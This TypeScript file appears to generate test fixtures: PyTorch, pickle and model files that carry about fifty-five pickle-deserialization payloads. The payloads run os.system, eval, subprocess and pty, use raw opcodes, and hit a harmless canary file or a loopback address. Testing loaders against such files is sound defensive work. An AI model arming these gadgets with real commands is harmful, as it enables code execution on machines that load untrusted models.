import { type Pickled, pickle } from "../writers/pickle.ts";
import { stateDict, torchModule, torchStream, torchZip } from "../writers/torch.ts";
import { float32Weight, utf8 } from "../writers/weight.ts";

/** A call that Python would make on loading. */
function call(module: string, name: string, ...args: readonly Pickled[]): Pickled {
  return { call: { global: [module, name] }, args };
}

/** Ways to make Python run, import, open or fetch something from a pickle. */
function hostile(command: string, canary: string): readonly Pickled[] {
  const code = `__import__("os").system("${command}")`;
  const eval_: Pickled = call("builtins", "getattr", call("builtins", "__import__", "builtins"), "eval");
  return [
    call("os", "system", command),
    call("posix", "system", command),
    call("nt", "system", command),
    call("subprocess", "Popen", { list: ["touch", `${canary}.ran`] }),
    call("subprocess", "check_output", command),
    call("builtins", "eval", code),
    call("builtins", "exec", code),
    call("__builtin__", "eval", code),
    call("builtins", "compile", code, "x", "exec"),
    call("builtins", "open", canary, "w"),
    call("builtins", "__import__", "antigravity"),
    { call: eval_, args: [code] },
    call("importlib", "import_module", "this"),
    call("runpy", "run_path", canary),
    call("runpy", "_run_code", code),
    call("webbrowser", "open", "http://127.0.0.1:9/"),
    call("urllib.request", "urlopen", "http://127.0.0.1:9/"),
    call("socket", "create_connection", { tuple: ["127.0.0.1", 9] }),
    call("shutil", "rmtree", canary),
    call("pathlib", "Path.unlink", canary),
    call("pty", "spawn", command),
    call("ctypes", "CDLL", canary),
    call("pip", "main", { list: ["install", "x"] }),
    call("torch.hub", "load", "http://127.0.0.1:9", "x"),
    call("torch", "load", canary),
    call("torch.jit", "load", canary),
    call("torch.storage", "_load_from_bytes", { bytes: pickle(call("os", "system", command)) }),
    call("torch._utils", "_import_dotted_name", "os.system"),
    call("torch.utils._config_module", "ConfigModule.load_config", canary),
    call("torch._dynamo.guards", "GuardBuilder.get", code),
    call("torch.fx.graph_module", "reduce_graph_module", { dict: [["_code", code]] }, code),
    call("torch.serialization", "_get_layout", code),
    call("numpy", "load", canary),
    call("numpy.testing._private.utils", "runstring", code, { dict: [] }),
    call("numpy.core.multiarray", "_reconstruct", { global: ["os", "system"] }, { tuple: [0] }),
    call(
      "copyreg",
      "_reconstructor",
      { global: ["os", "system"] },
      { global: ["builtins", "object"] },
      command,
    ),
    call("operator", "methodcaller", "system", command),
    call("functools", "partial", { global: ["os", "system"] }, command),
    call("functools", "reduce", { global: ["os", "system"] }, { list: [command] }),
    call("builtins", "map", { global: ["os", "system"] }, { list: [command] }),
    call("types", "FunctionType", call("marshal", "loads", { bytes: utf8(code) })),
    call("cProfile", "runctx", code, null, null),
    call("timeit", "timeit", code),
    call("idlelib.pyshell", "ModifiedInterpreter.runcode", code),
    call("bdb", "Bdb.run", code),
    call("code", "InteractiveInterpreter.runcode", code),
    call("joblib", "load", canary),
    call("dill._dill", "_create_function", code),
    { call: { global: ["os", "system"] }, made: true, args: [command] },
    { call: { global: ["a", "B"] }, made: true, state: call("os", "system", command) },
    { raw: utf8(`cos\nsystem\n(S'${command}'\ntR`) },
    { raw: utf8(`(S'${command}'\nios\nsystem\n`) },
    { raw: utf8(`(cos\nsystem\nS'${command}'\no`) },
    { persistent: { tuple: ["storage", call("os", "system", command), "0", "cpu", 1] } },
    { persistent: { tuple: ["module", { global: ["os", "system"] }, canary, code] } },
  ];
}

/** Each payload beside a kernel, in the place of one, as a module's class, and in files of before 1.6. */
export function torchPayloads(canary: string): ReadonlyMap<string, Uint8Array<ArrayBuffer>> {
  const files = new Map<string, Uint8Array<ArrayBuffer>>();
  const { root, tensors } = stateDict([float32Weight("conv.weight", [2, 1, 3, 3], { length: 18 })]);
  for (const [at, value] of hostile(`touch ${canary}.ran`, canary).entries()) {
    const beside: Pickled = {
      dict: [
        ["hook", value],
        ["state_dict", root],
      ],
    };
    files.set(`beside-${at}.pt`, torchZip(beside, tensors));
    files.set(`alone-${at}.pt`, torchZip(value, []));
    files.set(`stream-${at}.pth`, torchStream(beside, tensors));
    files.set(
      `module-${at}.pt`,
      torchZip(
        torchModule(["__main__", "Net"], [["forward", value]], [["weight", value]], [["0", value]]),
        tensors,
      ),
    );
    files.set(`plain-${at}.pkl`, pickle(value));
  }
  return files;
}
